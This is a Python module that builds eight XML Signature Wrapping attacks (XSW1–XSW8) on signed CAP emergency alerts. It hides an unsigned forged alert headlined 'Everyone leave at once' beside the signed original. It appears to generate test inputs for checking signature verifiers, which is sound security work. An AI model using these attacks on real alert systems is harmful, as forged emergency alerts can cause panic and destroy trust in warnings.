"""Signature wrapping, XSW 1 to 8 (Somorovsky and others, "On Breaking SAML", 2012), turned from SAML onto a CAP alert.

Each attack keeps the signed original in the document, where a careless verifier finds it, and lets the reader find an
evil alert that nobody signed.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
CAP = "{urn:oasis:names:tc:emergency:cap:1.2}"
EVIL = "Everyone leave at once"


def naked(signed: etree._Element) -> etree._Element:
    """The original without its signature."""
    copy = deepcopy(signed)
    copy.remove(signature_of(copy))
    return copy


def signature_of(alert: etree._Element) -> etree._Element:
    found = alert.find(f"{DS}Signature")
    assert found is not None
    return found


def evil(signed: etree._Element, evil_id: str | None) -> etree._Element:
    """The original without its signature, saying something else; `evil_id` "" takes its Id away, None leaves it."""
    copy = naked(signed)
    headline = copy.find(f".//{CAP}headline")
    assert headline is not None
    headline.text = EVIL
    if evil_id is not None:
        copy.attrib.clear()
    if evil_id:
        copy.set("Id", evil_id)
    return copy


def original_in_signature(signed: etree._Element, root: etree._Element) -> etree._Element:
    signature = signature_of(deepcopy(signed))
    signature.append(naked(signed))
    root.append(signature)
    return root


def original_before_signature(signed: etree._Element, root: etree._Element) -> etree._Element:
    root.append(naked(signed))
    root.append(signature_of(deepcopy(signed)))
    return root


def evil_before_original(signed: etree._Element, root: etree._Element) -> etree._Element:
    around = etree.Element(f"{CAP}alert", nsmap=signed.nsmap)  # type: ignore[arg-type]  # stubs
    around.extend([root, deepcopy(signed)])
    return around


def evil_around_original(signed: etree._Element, root: etree._Element) -> etree._Element:
    root.append(deepcopy(signed))
    return root


def evil_signed_original_first(signed: etree._Element, root: etree._Element) -> etree._Element:
    root.insert(0, naked(signed))
    root.append(signature_of(deepcopy(signed)))
    return root


def evil_signed_original_last(signed: etree._Element, root: etree._Element) -> etree._Element:
    root.append(signature_of(deepcopy(signed)))
    root.append(naked(signed))
    return root


def original_in_extension(signed: etree._Element, root: etree._Element) -> etree._Element:
    etree.SubElement(root, f"{CAP}parameter").append(deepcopy(signed))
    return root


def original_in_object(signed: etree._Element, root: etree._Element) -> etree._Element:
    signature = signature_of(deepcopy(signed))
    etree.SubElement(signature, f"{DS}Object").append(naked(signed))
    root.append(signature)
    return root


ATTACKS: dict[str, Callable[[etree._Element, etree._Element], etree._Element]] = {
    "XSW1": original_in_signature,
    "XSW2": original_before_signature,
    "XSW3": evil_before_original,
    "XSW4": evil_around_original,
    "XSW5": evil_signed_original_first,
    "XSW6": evil_signed_original_last,
    "XSW7": original_in_extension,
    "XSW8": original_in_object,
}
MISPLACED = {"XSW3", "XSW4", "XSW7"}
"""Attacks in which the signature is no longer a child of the root."""


def wrapped(name: str, signed: bytes, evil_id: str | None = None) -> bytes:
    """The attack `name` on `signed`."""
    original = etree.fromstring(signed)
    return etree.tostring(ATTACKS[name](original, evil(original, evil_id)), xml_declaration=True, encoding="UTF-8")
